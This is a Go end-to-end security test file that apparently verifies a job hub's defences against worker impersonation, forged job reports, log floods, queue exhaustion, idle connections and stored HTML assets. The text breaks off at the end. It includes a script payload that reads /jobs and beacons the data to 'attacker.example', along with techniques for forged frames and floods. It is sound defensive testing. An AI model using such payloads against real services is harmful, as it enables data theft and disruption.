package e2e

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gorilla/websocket"
	"github.com/stretchr/testify/require"

	"github.com/paprika-hub/paprika/client"
	"github.com/paprika-hub/paprika/messages"
	"github.com/paprika-hub/paprika/persistence"
	"github.com/paprika-hub/paprika/persistence/redisstore"
	"github.com/paprika-hub/paprika/persistence/storetest"
)

// The attacks of issue 12 ("How it is shown"), each by a real process
// against real hub and worker processes on 127.0.0.1, while honest workers
// run a steady stream of jobs. TestSecurityAttacks shares one fleet — two
// hubs on cluster TLS, MariaDB and Redis, an API token and per-worker
// credentials — and runs one subtest per finding; the slow ones (server
// timeouts, a silent link) are started first and judged last, so the whole
// file takes about as long as its longest timeout. TestSecurityAttacksOnAnOpenHub
// covers what only a hub without tokens shows (the Host check) and the
// start-up refusals.
//
// What each subtest would have seen on main before issue 12 (8477065) is
// written beside it.

const (
	atkAPIToken = "e2e-api-token-0123456789"
	atkSecret   = "e2e-worker-secret-0123456789abcdef"
	// atkMaxQueued is limits.max_queued of the fleet: small enough to fill.
	atkMaxQueued = 30
	// atkConnsPerIP is limits.max_conns_per_ip: the test's own clients and
	// workers (127.0.0.1) stay well under it; the attacker dials from
	// 127.0.0.2, so its connections count against its own address only.
	atkConnsPerIP = 48
	// atkLines is the honest jobs' log length.
	atkLines = 3
)

// secFleet is two hub processes on cluster TLS sharing MariaDB and Redis,
// with the API token and auth.worker_secret set, and honest worker
// processes holding their own credentials.
type secFleet struct {
	t        *testing.T
	urls     []string // API base URLs
	clusters []string // cluster (remoting) addresses
	hubs     []*proc
	workers  map[string]*proc
	execLog  string
	registry *redisstore.WorkerRegistry
	api      *client.Client   // every hub
	perHub   []*client.Client // one hub each
	hc       *http.Client
}

func newSecFleet(t *testing.T) *secFleet {
	if testing.Short() {
		t.Skip("needs MariaDB and Redis; skipped with -short")
	}
	redisURL, prefix := storetest.RedisPrefix(t)
	dsn := storetest.MySQLDatabase(t)
	certDir := t.TempDir()
	for _, args := range [][]string{{"certs", "ca", "--dir", certDir}, {"certs", "hub", "--dir", certDir, "--host", "127.0.0.1"}} {
		out, err := exec.Command(clusterBinary, args...).CombinedOutput()
		require.NoError(t, err, "%s", out)
	}
	f := &secFleet{t: t, workers: map[string]*proc{}, execLog: filepath.Join(t.TempDir(), "exec.log"),
		hc: &http.Client{Timeout: 20 * time.Second}}
	shared := []string{
		"PAPRIKA_MYSQL_DSN=" + dsn,
		"PAPRIKA_REDIS_URL=" + redisURL,
		"PAPRIKA_REDIS_PREFIX=" + prefix,
		"PAPRIKA_CLUSTER_TLS_CA=" + filepath.Join(certDir, "ca.crt"),
		"PAPRIKA_CLUSTER_TLS_CERT=" + filepath.Join(certDir, "hub.crt"),
		"PAPRIKA_CLUSTER_TLS_KEY=" + filepath.Join(certDir, "hub.key"),
		"PAPRIKA_AUTH_API_TOKEN=" + atkAPIToken,
		"PAPRIKA_AUTH_WORKER_SECRET=" + atkSecret,
		"PAPRIKA_LIMITS_MAX_QUEUED=" + strconv.Itoa(atkMaxQueued),
		"PAPRIKA_LIMITS_MAX_CONNS_PER_IP=" + strconv.Itoa(atkConnsPerIP),
		"PAPRIKA_CLUSTER_MEMBER_TIMEOUT=2s",
		"PAPRIKA_CLUSTER_HUB_TTL=20s",
		// A link silent for the alive window is dropped, and its job is
		// recovered once its worker has been gone for the orphan grace.
		"PAPRIKA_WORKER_HEARTBEAT_INTERVAL=1s",
		"PAPRIKA_WORKER_ALIVE_WINDOW=6s",
		"PAPRIKA_RECONCILER_INTERVAL=1s",
		"PAPRIKA_RECONCILER_ORPHAN_GRACE=3s",
		"PAPRIKA_REDRIVE_INTERVAL=1s",
		"PAPRIKA_REDRIVE_MIN_AGE=5s",
		"PAPRIKA_SCHEDULER_ASSIGN_GRACE=3s",
		"PAPRIKA_JOBS_DEFAULT_TIMEOUT=90s",
	}
	// One assets directory for both hubs: a shared asset store (MinIO in
	// production), so either hub serves what a worker stored through the other.
	assets := filepath.Join(t.TempDir(), "assets")
	for i := 0; i < 2; i++ {
		port, cport := freePort(t), freePort(t)
		f.urls = append(f.urls, fmt.Sprintf("http://127.0.0.1:%d", port))
		f.clusters = append(f.clusters, fmt.Sprintf("127.0.0.1:%d", cport))
		env := append([]string{
			"PAPRIKA_HUB_LISTEN=127.0.0.1:" + strconv.Itoa(port),
			"PAPRIKA_CLUSTER_PORT=" + strconv.Itoa(cport),
			"PAPRIKA_ASSETS_DIR=" + assets,
		}, shared...)
		f.hubs = append(f.hubs, startBinary(t, clusterBinary, fmt.Sprintf("hub%d", i), env, "hub"))
	}
	for _, u := range f.urls {
		waitReady(t, u)
	}
	var err error
	f.api, err = client.New(f.urls, client.WithToken(atkAPIToken), client.WithMaxAttempts(8))
	require.NoError(t, err)
	for _, u := range f.urls {
		c, err := client.New([]string{u}, client.WithToken(atkAPIToken))
		require.NoError(t, err)
		f.perHub = append(f.perHub, c)
	}
	rdb, err := redisstore.Connect(context.Background(), redisURL)
	require.NoError(t, err)
	t.Cleanup(func() { _ = rdb.Close() })
	f.registry = redisstore.NewWorkerRegistry(rdb, redisstore.WithPrefix(prefix))
	return f
}

// credential is a worker's token as the operator mints it.
func (f *secFleet) credential(id string) string {
	cmd := exec.Command(clusterBinary, "token", "worker", "--id", id)
	cmd.Env = append(os.Environ(), "PAPRIKA_AUTH_WORKER_SECRET="+atkSecret)
	out, err := cmd.Output()
	require.NoError(f.t, err)
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	return lines[len(lines)-1]
}

// startWorker starts an honest worker process listing hub first.
func (f *secFleet) startWorker(id string, first, lanes int) {
	urls := []string{f.urls[first], f.urls[1-first]}
	f.workers[id] = startBinary(f.t, clusterBinary, "worker-"+id, nil, "worker", "--hub", strings.Join(urls, ","),
		"--id", id, "--lanes", strconv.Itoa(lanes), "--exec-log", f.execLog, "--token", f.credential(id))
}

// do sends an API request with the API token (and the JSON content type
// for a state change), plus header pairs.
func (f *secFleet) do(method, url, body string, hdr ...string) (*http.Response, []byte) {
	f.t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	require.NoError(f.t, err)
	req.Header.Set("Authorization", "Bearer "+atkAPIToken)
	if method != http.MethodGet {
		req.Header.Set("Content-Type", "application/json")
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	res, err := f.hc.Do(req)
	require.NoError(f.t, err)
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res, b
}

func (f *secFleet) job(id string) persistence.Job {
	f.t.Helper()
	j, err := f.api.Get(context.Background(), id)
	require.NoError(f.t, err)
	return j
}

func (f *secFleet) logs(id string) []string {
	f.t.Helper()
	_, b := f.do(http.MethodGet, f.urls[0]+"/jobs/"+id+"/logs", "")
	s := strings.TrimSuffix(string(b), "\n")
	if s == "" {
		return nil
	}
	return strings.Split(s, "\n")
}

// record is a worker's registry record as the hubs keep it (with the
// link's actor address and start, which the API never shows).
func (f *secFleet) record(id string) persistence.WorkerInfo {
	f.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	w, err := f.registry.Get(ctx, id)
	require.NoError(f.t, err, "worker %s", id)
	return w
}

// metric sums a counter over both hubs: every series of name whose label
// text contains each of match.
func (f *secFleet) metric(name string, match ...string) float64 {
	f.t.Helper()
	var sum float64
	for _, u := range f.urls {
		_, b := f.do(http.MethodGet, u+"/metrics", "")
		sc := bufio.NewScanner(strings.NewReader(string(b)))
		sc.Buffer(make([]byte, 1<<20), 1<<20)
	lines:
		for sc.Scan() {
			line := sc.Text()
			if !strings.HasPrefix(line, name+"{") && !strings.HasPrefix(line, name+" ") {
				continue
			}
			for _, m := range match {
				if !strings.Contains(line, m) {
					continue lines
				}
			}
			v, err := strconv.ParseFloat(line[strings.LastIndexByte(line, ' ')+1:], 64)
			require.NoError(f.t, err, line)
			sum += v
		}
	}
	return sum
}

// honestLoad submits noop jobs to both hubs in turn until stop is closed.
// The result has every accepted job and every refused submission (which
// the caller judges: only the queue cap may refuse one).
func (f *secFleet) honestLoad(every time.Duration, stop <-chan struct{}) func() ([]string, []error) {
	var mu sync.Mutex
	var ids []string
	var refused []error
	var done sync.WaitGroup
	done.Add(1)
	go func() {
		defer done.Done()
		tick := time.NewTicker(every)
		defer tick.Stop()
		for n := 0; ; n++ {
			select {
			case <-stop:
				return
			case <-tick.C:
			}
			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
			j, err := f.perHub[n%2].Submit(ctx, client.SubmitRequest{Mode: "noop", MaxAttempts: 2,
				Params: map[string]any{"lines": atkLines, "sleep_ms": 50}}, "")
			cancel()
			mu.Lock()
			if err != nil {
				refused = append(refused, err)
			} else {
				ids = append(ids, j.ID)
			}
			mu.Unlock()
		}
	}()
	return func() ([]string, []error) {
		done.Wait()
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), ids...), append([]error(nil), refused...)
	}
}

// peer is a raw worker link speaking the protocol by hand, as an attacker
// holding its own credential would.
type peer struct {
	t      *testing.T
	id     string
	conn   *websocket.Conn
	wmu    sync.Mutex
	frames chan messages.Frame
	stopHB chan struct{}
}

// dialWorkerLink opens a worker link's socket presenting token; a refused
// upgrade's error names its HTTP status.
func dialWorkerLink(hubURL, id, token string) (*websocket.Conn, error) {
	u := "ws" + strings.TrimPrefix(hubURL, "http") + "/workers/" + id + "/link"
	hdr := http.Header{}
	if token != "" {
		hdr.Set("Authorization", "Bearer "+token)
	}
	conn, res, err := websocket.DefaultDialer.Dial(u, hdr)
	if err != nil && res != nil {
		return nil, fmt.Errorf("%w: HTTP %d", err, res.StatusCode)
	}
	return conn, err
}

func helloFrame(id, lanIP string, lanes int, drivers ...string) messages.Frame {
	urls := make([]string, lanes)
	for i := range urls {
		urls[i] = fmt.Sprintf("sim://%s/lane/%d", id, i)
	}
	return messages.Frame{Type: messages.TypeHello, WorkerID: id, LanIP: lanIP, Version: "attacker",
		Capabilities: &messages.Capabilities{MaxConcurrent: lanes, LaneURLs: urls, Drivers: drivers}, Stats: &messages.Stats{}}
}

// linkPeer links id with its credential and reads every frame from then
// on (answering pings as any reader does). It heartbeats every second
// reporting running(), so the hub keeps its slots as they are.
func (f *secFleet) linkPeer(hubURL, id string, lanes int, running func() []string, drivers ...string) *peer {
	t := f.t
	conn, err := dialWorkerLink(hubURL, id, f.credential(id))
	require.NoError(t, err)
	p := &peer{t: t, id: id, conn: conn, frames: make(chan messages.Frame, 4096), stopHB: make(chan struct{})}
	t.Cleanup(func() { close(p.stopHB); _ = conn.Close() })
	go func() {
		defer close(p.frames)
		for {
			_, b, err := conn.ReadMessage()
			if err != nil {
				return
			}
			if fr, err := messages.DecodeFrame(b); err == nil {
				select {
				case p.frames <- fr:
				default: // nobody reads the acks of a flood
				}
			}
		}
	}()
	p.send(helloFrame(id, "127.0.0.1", lanes, drivers...))
	require.Equal(t, messages.TypeWelcome, p.next(10*time.Second, messages.TypeWelcome).Type, "%s welcomed", id)
	go func() {
		tick := time.NewTicker(time.Second)
		defer tick.Stop()
		for {
			select {
			case <-p.stopHB:
				return
			case <-tick.C:
			}
			r := running()
			if p.trySend(messages.Frame{Type: messages.TypeHeartbeat, Stats: &messages.Stats{InFlight: len(r)}, Running: r}) != nil {
				return
			}
		}
	}()
	return p
}

func (p *peer) trySend(fr messages.Frame) error {
	b, err := json.Marshal(fr)
	if err != nil {
		return err
	}
	p.wmu.Lock()
	defer p.wmu.Unlock()
	_ = p.conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
	return p.conn.WriteMessage(websocket.TextMessage, b)
}

func (p *peer) send(fr messages.Frame) { require.NoError(p.t, p.trySend(fr)) }

// next returns the next frame of type typ within d, passing over others;
// a zero Frame when none came.
func (p *peer) next(d time.Duration, typ string) messages.Frame {
	timeout := time.After(d)
	for {
		select {
		case fr, ok := <-p.frames:
			if !ok {
				return messages.Frame{}
			}
			if fr.Type == typ {
				return fr
			}
		case <-timeout:
			return messages.Frame{}
		}
	}
}

// readEOF reads conn until the hub closes it, within d. It reports what
// the hub sent and whether it closed (false: our deadline passed first).
func readEOF(conn net.Conn, d time.Duration) (string, bool) {
	_ = conn.SetReadDeadline(time.Now().Add(d))
	b, err := io.ReadAll(conn)
	var ne net.Error
	if errors.As(err, &ne) && ne.Timeout() {
		return string(b), false
	}
	return string(b), true // EOF or a reset: closed by the hub
}

// dialFrom opens a TCP connection to the hub at url from the loopback
// address src, so the per-address connection cap counts it against src.
func dialFrom(t *testing.T, src, url string) net.Conn {
	t.Helper()
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: 5 * time.Second}
	conn, err := d.Dial("tcp", strings.TrimPrefix(url, "http://"))
	if err != nil && os.Getenv("CI") != "true" && strings.Contains(err.Error(), "assign requested address") {
		t.Skipf("this host has no %s on loopback: %v", src, err)
	}
	require.NoError(t, err, "dial from %s", src)
	return conn
}

func TestSecurityAttacks(t *testing.T) {
	f := newSecFleet(t)
	ctx := context.Background()

	// The attacker's own worker, w-evil, has a credential of its own (any
	// worker of the fleet could turn). It advertises one chromium lane and
	// takes the one fetch job queued for it, so it holds a job of its own
	// (its asset upload is legitimate) and no honest noop job lands on it.
	evilJob, err := f.api.Submit(ctx, client.SubmitRequest{Mode: "fetch", MaxAttempts: 1,
		Params: map[string]any{"url": "http://attacker.example/page"}}, "")
	require.NoError(t, err)
	var evilRunning sync.Map
	evil := f.linkPeer(f.urls[1], "w-evil", 1, func() []string {
		var r []string
		evilRunning.Range(func(k, _ any) bool { r = append(r, k.(string)); return true })
		return r
	}, messages.DriverChromium)
	a := evil.next(10*time.Second, messages.TypeAssignJob)
	require.Equal(t, evilJob.ID, a.JobID, "w-evil holds its own fetch job")
	evilRunning.Store(a.JobID, true)
	evil.send(messages.Frame{Type: messages.TypeJobStarted, JobID: a.JobID, Attempt: a.Attempt, Lane: "sim://w-evil/lane/0"})

	f.startWorker("w0", 0, 2)
	f.startWorker("w1", 1, 2)
	waitWorkers(t, f.api, 3)
	honestLinks := map[string]int64{}
	for _, id := range []string{"w0", "w1"} {
		rec := f.record(id)
		require.True(t, rec.Connected, id)
		honestLinks[id] = rec.LinkStarted
	}

	stopLoad := make(chan struct{})
	honest := f.honestLoad(40*time.Millisecond, stopLoad)

	// The slow ones start now and are judged at the end.
	idle := f.startIdleConns()

	t.Run("RemotingPeerWithoutCert", func(t *testing.T) {
		// A stranger on w0's hub's cluster port: a plain protoactor remote
		// sends w0's WorkerConn (its address is in the registry; on main
		// GET /workers handed it out) an assign_job for a job that exists
		// nowhere, and a ConnClose; a bare TLS client brings no
		// certificate. On main (no cluster TLS) the ConnSend was acked, w0
		// ran the phantom job and its link was cut.
		bin := filepath.Join(t.TempDir(), "attacker")
		build := exec.Command("go", "build", "-o", bin, "./testdata/attacker")
		out, err := build.CombinedOutput()
		require.NoError(t, err, "build attacker: %s", out)
		rec := f.record("w0")
		require.Contains(t, rec.Link, "/", "the registry keeps w0's link address")
		addr, _, _ := strings.Cut(rec.Link, "/")
		phantom := "phantom-" + strconv.FormatInt(time.Now().UnixNano(), 36)
		run := exec.Command(bin, "--cluster", addr, "--target", rec.Link, "--job", phantom, "--wait", "2s")
		run.Stderr = os.Stderr
		out, err = run.Output()
		require.NoError(t, err)
		var got struct {
			TLSNoCert string `json:"tls_no_cert"`
			ConnSend  string `json:"conn_send"`
			ConnClose bool   `json:"conn_close"`
		}
		require.NoError(t, json.Unmarshal(out, &got), "%s", out)
		t.Logf("attacker: %+v", got)
		require.Contains(t, got.TLSNoCert, "certificate required", "a TLS peer without a certificate is refused in the handshake")
		require.NotEmpty(t, got.ConnSend, "a plain remote's ConnSend reaches no WorkerConn")
		require.True(t, got.ConnClose)
		for _, e := range readExecs(t, f.execLog) {
			require.NotEqual(t, phantom, e.job, "a worker ran a job that exists nowhere")
		}
		rec = f.record("w0")
		require.True(t, rec.Connected)
		require.Equal(t, honestLinks["w0"], rec.LinkStarted, "the stranger's ConnClose did not cut w0's link")
	})

	t.Run("ImpostorWithAnotherIDsToken", func(t *testing.T) {
		// w-evil's credential presented for w0, by a real `paprika worker`
		// and by a raw dial: 401 before the upgrade. On main the one shared
		// token let anyone link as any id and displace the real w0.
		evilCred := f.credential("w-evil")
		_, err := dialWorkerLink(f.urls[0], "w0", evilCred)
		require.ErrorContains(t, err, "HTTP 401")
		imp := startBinary(t, clusterBinary, "impostor", nil, "worker", "--hub", f.urls[0], "--id", "w0", "--lanes", "4",
			"--exec-log", filepath.Join(t.TempDir(), "impostor.log"), "--token", evilCred)
		require.Eventually(t, func() bool {
			b, _ := os.ReadFile(imp.log)
			return strings.Contains(string(b), "HTTP 401")
		}, 20*time.Second, 100*time.Millisecond, "the impostor worker is refused with 401")
		imp.kill()
		rec := f.record("w0")
		require.True(t, rec.Connected)
		require.Equal(t, honestLinks["w0"], rec.LinkStarted, "w0's link was never displaced")
		require.Equal(t, 2, rec.ReportedMaxConcurrent, "the registry still holds the real w0")
	})

	t.Run("SecondLinkForALiveID", func(t *testing.T) {
		// w0's own credential (a leaked copy, or a second machine started
		// with it) links while w0's link answers pings: id_taken, and the
		// refusal does not say where w0 is. On main the newer link won.
		rec := f.record("w0")
		conn, err := dialWorkerLink(f.urls[1], "w0", f.credential("w0"))
		require.NoError(t, err, "the credential is w0's: the upgrade is allowed")
		defer conn.Close()
		b, _ := json.Marshal(helloFrame("w0", "10.9.8.7", 2, messages.DriverSimulated))
		require.NoError(t, conn.WriteMessage(websocket.TextMessage, b))
		require.NoError(t, conn.SetReadDeadline(time.Now().Add(15*time.Second)))
		var fr messages.Frame
		for fr.Type != messages.TypeError && fr.Type != messages.TypeWelcome {
			_, b, err := conn.ReadMessage()
			require.NoError(t, err)
			fr, err = messages.DecodeFrame(b)
			require.NoError(t, err)
		}
		require.Equal(t, messages.TypeError, fr.Type, "%+v", fr)
		require.Equal(t, string(messages.CodeIDTaken), fr.Code)
		require.NotContains(t, fr.Message, "127.0.0.1")
		if rec.LanIP != "" {
			require.NotContains(t, fr.Message, rec.LanIP, "the holder's address stays private")
		}
		after := f.record("w0")
		require.True(t, after.Connected)
		require.Equal(t, honestLinks["w0"], after.LinkStarted, "the live link was kept")
		require.Equal(t, rec.LanIP, after.LanIP)
	})

	// Two honest jobs that sleep long enough to be attacked while running.
	// The flood target sleeps longer: it is attacked after the first ends.
	var targets []persistence.Job
	for _, sleep := range []int{4000, 8000} {
		j, err := f.perHub[0].Submit(ctx, client.SubmitRequest{Mode: "noop", MaxAttempts: 1,
			Params: map[string]any{"lines": atkLines, "sleep_ms": sleep}}, "")
		require.NoError(t, err)
		targets = append(targets, j)
	}
	for i, j := range targets {
		require.Eventually(t, func() bool {
			targets[i] = f.job(j.ID)
			return targets[i].Status == persistence.StatusRunning && targets[i].Attempts == 1
		}, 20*time.Second, 20*time.Millisecond, "target %s running", j.ID)
		require.Contains(t, []string{"w0", "w1"}, targets[i].WorkerID)
	}
	// Linked only now, so that the targets cannot land on it.
	silent := f.startSilentLink()

	t.Run("WorkerReportsAnothersJob", func(t *testing.T) {
		// w-evil says it started, finished and failed an honest worker's
		// job, and uploads into it. On main the forged job_done ended the
		// job with w-evil's result (67 of 97 in the loop).
		j := targets[0]
		finished0, started0 := f.metric("paprika_fenced_reports_total", `kind="finished"`), f.metric("paprika_fenced_reports_total", `kind="started"`)
		evil.send(messages.Frame{Type: messages.TypeJobStarted, JobID: j.ID, Attempt: 1, Lane: "sim://w-evil/lane/0"})
		evil.send(messages.Frame{Type: messages.TypeJobDone, JobID: j.ID, Attempt: 1, Result: []byte(`{"forged":true}`)})
		evil.send(messages.Frame{Type: messages.TypeJobFailed, JobID: j.ID, Attempt: 1, Reason: persistence.ReasonJobError, Error: "forged"})
		res, b := f.do(http.MethodPut, f.urls[0]+"/jobs/"+j.ID+"/assets/evil.html", "<script>alert(1)</script>",
			"Authorization", "Bearer "+f.credential("w-evil"), "Content-Type", "text/html")
		require.Equal(t, http.StatusForbidden, res.StatusCode, "%s", b)
		require.Contains(t, string(b), "not_holder")
		require.Eventually(t, func() bool {
			return f.metric("paprika_fenced_reports_total", `kind="finished"`) >= finished0+2 &&
				f.metric("paprika_fenced_reports_total", `kind="started"`) >= started0+1
		}, 10*time.Second, 50*time.Millisecond, "the forged reports are refused and counted in /metrics")
		final := waitAllFinal(t, f.api, []string{j.ID}, time.Minute)[j.ID]
		require.Equal(t, persistence.StatusSucceeded, final.Status, "%s %s", final.Reason, final.Error)
		require.Equal(t, j.WorkerID, final.WorkerID)
		require.JSONEq(t, fmt.Sprintf(`{"lines":%d}`, atkLines), string(final.Result), "the holder's result, not the forged one")
		require.Empty(t, final.Assets, "the refused upload stored nothing")
	})

	t.Run("LogFloodIntoAJobNotHeld", func(t *testing.T) {
		// 2,000 lines (and an end) into an honest worker's running job. On
		// main they were stored and the forged end closed its log.
		j := targets[1]
		log0 := f.metric("paprika_fenced_reports_total", `kind="log"`)
		const flood = 2000
		for i := 0; i < flood; i++ {
			evil.send(messages.Frame{Type: messages.TypeJobLog, JobID: j.ID, Attempt: 1, Seq: int64(i), Line: "forged line " + strconv.Itoa(i)})
		}
		evil.send(messages.Frame{Type: messages.TypeJobDone, JobID: j.ID, Attempt: 1, Result: []byte(`{}`)})
		require.Equal(t, persistence.StatusRunning, f.job(j.ID).Status, "the flood hit a running job")
		require.Eventually(t, func() bool {
			return f.metric("paprika_fenced_reports_total", `kind="log"`) >= log0+flood
		}, 20*time.Second, 50*time.Millisecond, "every forged line is refused and counted")
		for _, l := range f.logs(j.ID) {
			require.True(t, strings.HasPrefix(l, "noop line "), "a forged line was stored: %q", l)
		}
		final := waitAllFinal(t, f.api, []string{j.ID}, time.Minute)[j.ID]
		require.Equal(t, persistence.StatusSucceeded, final.Status, "%s %s", final.Reason, final.Error)
		want := make([]string, atkLines)
		for i := range want {
			want[i] = fmt.Sprintf("noop line %d of %d", i+1, atkLines)
		}
		require.Equal(t, want, f.logs(j.ID), "the log is the holder's, whole, and nothing else")
	})

	t.Run("HTMLAsset", func(t *testing.T) {
		// w-evil stores a page with a script in the job it holds (as any
		// fetched page could be). On main it came back as text/html inline
		// and ran on the hub's origin.
		cred := f.credential("w-evil")
		for name, ct := range map[string]string{"page.html": "text/html", "logo.svg": "image/svg+xml"} {
			res, b := f.do(http.MethodPut, f.urls[1]+"/jobs/"+evilJob.ID+"/assets/"+name,
				`<html><script>fetch("/jobs").then(r=>r.text()).then(t=>navigator.sendBeacon("//attacker.example",t))</script></html>`,
				"Authorization", "Bearer "+cred, "Content-Type", ct)
			require.Equal(t, http.StatusNoContent, res.StatusCode, "the holder may upload: %s", b)
			for _, u := range f.urls {
				res, _ := f.do(http.MethodGet, u+"/jobs/"+evilJob.ID+"/assets/"+name, "")
				require.Equal(t, http.StatusOK, res.StatusCode, name)
				require.Equal(t, "nosniff", res.Header.Get("X-Content-Type-Options"), name)
				require.Equal(t, "sandbox", res.Header.Get("Content-Security-Policy"), name)
				require.Equal(t, "attachment; filename="+name, res.Header.Get("Content-Disposition"), name)
			}
		}
	})

	t.Run("OversizeLabel", func(t *testing.T) {
		// On main labels were stored at any size.
		res, b := f.do(http.MethodPost, f.urls[0]+"/jobs", `{"mode":"noop","labels":{"team":"`+strings.Repeat("v", 2000)+`"}}`)
		require.Equal(t, http.StatusRequestEntityTooLarge, res.StatusCode, "%s", b)
		code, limit := atkErr(t, b)
		require.Equal(t, "labels_too_large", code)
		require.Equal(t, "limits.max_label_value_bytes", limit)
		res, b = f.do(http.MethodPost, f.urls[0]+"/jobs", `{"mode":"noop","labels":{"team":"`+strings.Repeat("v", 2<<20)+`"}}`)
		require.Equal(t, http.StatusRequestEntityTooLarge, res.StatusCode, "a label past the body bound: %.200s", b)
		res, b = f.do(http.MethodPost, f.urls[0]+"/jobs", `{"mode":"noop","params":{"pad":"`+strings.Repeat("p", 70<<10)+`"}}`)
		require.Equal(t, http.StatusRequestEntityTooLarge, res.StatusCode, "%.200s", b)
		code, limit = atkErr(t, b)
		require.Equal(t, "params_too_large", code)
		require.Equal(t, "limits.max_params_bytes", limit)
	})

	var afterCap string // the first job taken once the queue drained
	t.Run("QueuePastItsCap", func(t *testing.T) {
		// Jobs no worker can take (fetch, and the only chromium lane is
		// w-evil's, busy) fill the queue: the hub answers 429 with
		// Retry-After and the depth. On main the queue grew without bound.
		var flood []string
		var full []byte
		var retry string
		for i := 0; i < 3*atkMaxQueued && full == nil; i++ {
			res, b := f.do(http.MethodPost, f.urls[0]+"/jobs", `{"mode":"fetch","max_attempts":1,"params":{"url":"http://attacker.example/`+strconv.Itoa(i)+`"}}`)
			switch res.StatusCode {
			case http.StatusCreated:
				var j persistence.Job
				require.NoError(t, json.Unmarshal(b, &j))
				flood = append(flood, j.ID)
			case http.StatusTooManyRequests:
				full, retry = b, res.Header.Get("Retry-After")
			default:
				t.Fatalf("submit %d: %d %s", i, res.StatusCode, b)
			}
		}
		require.NotNil(t, full, "the queue never filled (%d accepted)", len(flood))
		code, limit := atkErr(t, full)
		require.Equal(t, "queue_full", code)
		require.Equal(t, "limits.max_queued", limit)
		secs, err := strconv.Atoi(retry)
		require.NoError(t, err, "Retry-After %q", retry)
		require.Positive(t, secs)
		var e struct{ Error struct{ Queued, Max int } }
		require.NoError(t, json.Unmarshal(full, &e))
		require.Equal(t, atkMaxQueued, e.Error.Max)
		require.GreaterOrEqual(t, e.Error.Queued, atkMaxQueued, "the depth is in the answer: %s", full)
		require.LessOrEqual(t, len(flood), atkMaxQueued, "no more than the cap was taken")
		for _, id := range flood {
			res, b := f.do(http.MethodPost, f.urls[0]+"/jobs/"+id+"/cancel", "")
			require.Equal(t, http.StatusOK, res.StatusCode, "%s", b)
		}
		require.Eventually(t, func() bool {
			res, b := f.do(http.MethodPost, f.urls[0]+"/jobs", `{"mode":"noop","max_attempts":2,"params":{"lines":`+strconv.Itoa(atkLines)+`}}`)
			if res.StatusCode != http.StatusCreated {
				return false
			}
			var j persistence.Job
			require.NoError(t, json.Unmarshal(b, &j))
			afterCap = j.ID
			return true
		}, 15*time.Second, 200*time.Millisecond, "with the queue drained the hub takes jobs again")
	})

	t.Run("IdleAndHalfOpenConnections", func(t *testing.T) {
		// From 127.0.0.2: connections that send nothing (past the
		// per-address cap: closed at accept; within it: closed by
		// ReadHeaderTimeout), a request cut inside its header, one cut
		// inside its body (closed by the body read deadline). On main
		// there was no cap and no body deadline: those connections stayed
		// open for as long as the client liked.
		r := idle()
		require.Equal(t, atkConnsPerIP, r.dialed-r.overCap, "connections held within the cap")
		require.Positive(t, r.overCap)
		require.Equal(t, r.overCap, r.overCapClosed, "every connection past the cap is closed at accept")
		require.Equal(t, atkConnsPerIP, r.idleClosed, "every silent connection within the cap is closed by the hub")
		require.True(t, r.servedDuring, "a client on 127.0.0.1 is served while 127.0.0.2 holds its cap")
		require.True(t, r.servedAfter, "127.0.0.2 is served again once its silent connections are gone")
		require.True(t, r.partialHeaderClosed, "a request cut inside its header is closed by the hub")
		require.True(t, r.partialBodyClosed, "a request cut inside its body is closed by the hub: %q", r.partialBodyAnswer)
		require.NotContains(t, r.partialBodyAnswer, " 201 ", "the cut request made no job")
	})

	t.Run("SilentWorkerLink", func(t *testing.T) {
		// w-mute takes an honest job, says it started, then stops reading
		// and writing without closing TCP. The hub drops the link once it
		// has been silent for the alive window (its pings go unanswered),
		// and the job is run again elsewhere by the orphan rules.
		r := silent()
		require.NotEmpty(t, r.job, "w-mute got a job (%v)", r.err)
		require.Eventually(t, func() bool {
			ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
			defer cancel()
			w, err := f.registry.Get(ctx, "w-mute")
			return errors.Is(err, persistence.ErrNotFound) || err == nil && !w.Connected
		}, 30*time.Second, 100*time.Millisecond, "the silent link is dropped")
		final := waitAllFinal(t, f.api, []string{r.job}, time.Minute)[r.job]
		require.Equal(t, persistence.StatusSucceeded, final.Status, "%s %s", final.Reason, final.Error)
		require.Contains(t, []string{"w0", "w1"}, final.WorkerID, "an honest worker ran it")
		require.Equal(t, 2, final.Attempts)
	})

	// All honest jobs that ran alongside: final, succeeded, run once, their
	// logs whole; the only submissions refused were the queue cap's.
	close(stopLoad)
	ids, refused := honest()
	for _, err := range refused {
		require.ErrorContains(t, err, "queue_full", "an honest submission was refused for something else")
	}
	require.Greater(t, len(ids), 50, "the honest stream ran throughout")
	ids = append(ids, targets[0].ID, targets[1].ID)
	if afterCap != "" {
		ids = append(ids, afterCap)
	}
	final := waitAllFinal(t, f.api, ids, 2*time.Minute)
	runs := map[string]int{}
	for _, e := range readExecs(t, f.execLog) {
		runs[e.job]++
	}
	for _, id := range ids {
		j := final[id]
		require.Equal(t, persistence.StatusSucceeded, j.Status, "job %s: %s %s", id, j.Reason, j.Error)
		require.Equal(t, 1, runs[id], "job %s ran %d times", id, runs[id])
		require.Contains(t, []string{"w0", "w1"}, j.WorkerID)
	}
	for _, id := range ids[:20] {
		require.Len(t, f.logs(id), atkLines, id)
	}
	// w-evil finishes its own job honestly.
	evil.send(messages.Frame{Type: messages.TypeJobDone, JobID: evilJob.ID, Attempt: a.Attempt, Result: []byte(`{"status":200}`)})
	require.Equal(t, persistence.StatusSucceeded, waitAllFinal(t, f.api, []string{evilJob.ID}, 30*time.Second)[evilJob.ID].Status)
	for id, started := range honestLinks {
		rec := f.record(id)
		require.True(t, rec.Connected, id)
		require.Equal(t, started, rec.LinkStarted, "%s kept its one link through every attack", id)
	}
	for i, h := range f.hubs {
		select {
		case <-h.done:
